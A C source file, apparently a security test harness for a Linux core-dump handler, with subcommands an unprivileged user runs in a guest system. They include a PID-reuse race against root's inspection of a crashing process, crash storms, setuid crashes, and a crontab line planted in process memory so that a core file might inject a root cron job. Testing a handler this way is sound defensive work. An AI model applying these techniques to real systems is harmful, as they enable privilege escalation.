// What a user without rights does in the guest, one attack a word. Root's script is ../guest/attacks.sh.
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

// In the core's first pages, as a line that cron would take.
__attribute__((used)) static volatile char payload[4096] = "\n\n* * * * * root id > /tmp/attacked\n\n";

void must(int ok, const char *what) {
    if (ok) return;
    perror(what);
    exit(3);
}

void put(const char *path, const char *text) {
    int file = open(path, O_WRONLY);
    must(file >= 0 && write(file, text, strlen(text)) == (ssize_t)strlen(text), path);
    close(file);
}

// Returns true once `is` holds; false if it does not hold within the seconds.
static int within(double seconds, int (*is)(void *), void *what) {
    for (int left = (int)(seconds * 100); left > 0; left--) {
        if (is(what)) return 1;
        usleep(10000);
    }
    return is(what);
}

// as UID COMMAND...: a command with the rights of a user alone, and without a limit of cores.
static int as(char **words) {
    unsigned id = atoi(words[0]);
    struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    must(setrlimit(RLIMIT_CORE, &all) == 0, "the limit of cores");
    must(setgroups(0, 0) == 0 && setresgid(id, id, id) == 0 && setresuid(id, id, id) == 0, "the user");
    execvp(words[1], words + 1);
    must(0, words[1]);
    return 1;
}

// die [FILTER]: dies of a signal. With filter 0 the core has no memory and is smaller than a pipe.
static int die(char **words) {
    if (words[0]) put("/proc/self/coredump_filter", words[0]);
    raise(SIGSEGV);
    return 1;
}

// storm COUNT: processes that die at the same time, with cores smaller than a pipe.
static int storm(char **words) {
    int count = atoi(words[0]), dumped = 0, status, go[2];
    put("/proc/self/coredump_filter", "0");
    must(pipe(go) == 0, "pipe");
    for (int at = 0; at < count; at++) {
        if (fork() == 0) {
            char byte;
            close(go[1]);
            if (read(go[0], &byte, 1) == 0) raise(SIGSEGV);
            _exit(1);
        }
    }
    close(go[1]);
    while (wait(&status) > 0) dumped += WIFSIGNALED(status) && WCOREDUMP(status);
    printf("%d of %d dumped\n", dumped, count);
    return dumped != count;
}

static pid_t short_lived(void) {
    pid_t pid = vfork();
    if (pid == 0) _exit(0);
    must(pid > 0, "vfork");
    waitpid(pid, 0, 0);
    return pid;
}

static int is_dumping(void *pid) {
    char path[64], line[200];
    int dumping = 0;
    snprintf(path, sizeof path, "/proc/%d/status", *(pid_t *)pid);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file)) dumping |= strcmp(line, "CoreDumping:\t1\n") == 0;
    if (file) fclose(file);
    return dumping;
}

// A process with so much untouched memory that its search takes long; it dies when it is told to.
static pid_t with_much_memory(int *die) {
    int go[2];
    must(pipe(go) == 0, "pipe");
    pid_t pid = fork();
    if (pid == 0) {
        char byte;
        char *memory =
            mmap(0, 64ul << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        must(memory != MAP_FAILED, "64 GiB of address space");
        memory[0] = payload[1];
        close(go[1]);
        if (read(go[0], &byte, 1) == 1) raise(SIGSEGV);
        _exit(1);
    }
    *die = go[1];
    return pid;
}

// reuse FOLDER PROGRAM: a process crashes, and is killed while root looks at it. Its number goes to a setuid program in a folder of root's,
// which lives as long as this process. Status 2: the number was not given to the program.
static int reuse(char **words) {
    int die, in[2];
    // Numbers up to 300 are given once.
    while (short_lived() < 320) {}
    pid_t dead = with_much_memory(&die), last;
    do last = short_lived(); while (last >= dead || last < dead - 40);
    must(write(die, "x", 1) == 1, "pipe");
    must(within(30, is_dumping, &dead), "the kernel dumps the process");
    usleep(1500000);
    must(chdir(words[0]) == 0, words[0]);
    do last = short_lived(); while (last >= dead || last < dead - 3);
    kill(dead, SIGKILL);
    waitpid(dead, 0, 0);
    must(pipe(in) == 0, "pipe");
    for (int left = 8; left > 0; left--) {
        pid_t next = fork();
        if (next == 0) {
            if (getpid() != dead) _exit(0);
            dup2(in[0], 0);
            close(in[1]);
            close(1);
            execl(words[1], words[1], (char *)0);
            _exit(3);
        }
        if (next != dead) {
            waitpid(next, 0, 0);
            continue;
        }
        printf("number %d went to %s\n", dead, words[1]);
        fflush(stdout);
        pause();
    }
    printf("number %d went to another process\n", dead);
    return 2;
}

// setuid PROGRAM: a setuid program that its user kills with a core dump.
static int of_setuid(char **words) {
    int in[2], out[2];
    char byte;
    must(pipe(in) == 0 && pipe(out) == 0, "pipe");
    pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        execv(words[0], words);
        _exit(3);
    }
    must(read(out[0], &byte, 1) == 1, "the program's first byte");
    must(kill(pid, SIGSEGV) == 0, "SIGSEGV");
    int status;
    waitpid(pid, &status, 0);
    printf("signal %d\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
    return 0;
}

// wait: says that it runs, and ends with its input. Installed as a setuid program.
static int waits(char **words) {
    char byte;
    (void)words;
    // Whoever started it may not want to know.
    if (write(1, "x", 1) < 0) close(1);
    return read(0, &byte, 1) != 0;
}

// look FILE: the core's size, owner and mode, and whether all that its program headers name is in it.
static int look(char **words) {
    struct stat stat;
    Elf64_Ehdr head = {0};
    int file = open(words[0], O_RDONLY | O_NOFOLLOW);
    must(file >= 0 && fstat(file, &stat) == 0, words[0]);
    int is_whole = pread(file, &head, sizeof head, 0) == sizeof head && memcmp(head.e_ident, ELFMAG, SELFMAG) == 0 &&
                   head.e_type == ET_CORE && head.e_phnum > 0;
    off_t end = 0;
    for (int at = 0; is_whole && at < head.e_phnum; at++) {
        Elf64_Phdr part;
        is_whole = pread(file, &part, sizeof part, head.e_phoff + at * sizeof part) == sizeof part;
        off_t of_part = part.p_offset + part.p_filesz;
        end = of_part > end ? of_part : end;
    }
    printf("%s bytes %ld user %u group %u mode %o\n", is_whole && end == stat.st_size ? "whole" : "CUT", (long)stat.st_size,
           stat.st_uid, stat.st_gid, stat.st_mode);
    return 0;
}

int main(int count, char **words) {
    static const struct { const char *name; int words; int (*run)(char **); } attacks[] = {
        {"as", 2, as}, {"die", 0, die}, {"storm", 1, storm}, {"reuse", 2, reuse}, {"setuid", 1, of_setuid},
        {"wait", 0, waits}, {"look", 1, look}, {"slow", 2, slow}, {"probe", 1, probe},
    };
    // The setuid program has no word.
    const char *name = count > 1 ? words[1] : "wait";
    for (unsigned at = 0; at < sizeof attacks / sizeof *attacks; at++) {
        if (strcmp(attacks[at].name, name) == 0 && count >= attacks[at].words + 2 - (count == 1)) {
            return attacks[at].run(words + 2 - (count == 1));
        }
    }
    fprintf(stderr, "no attack `%s`\n", name);
    return 3;
}
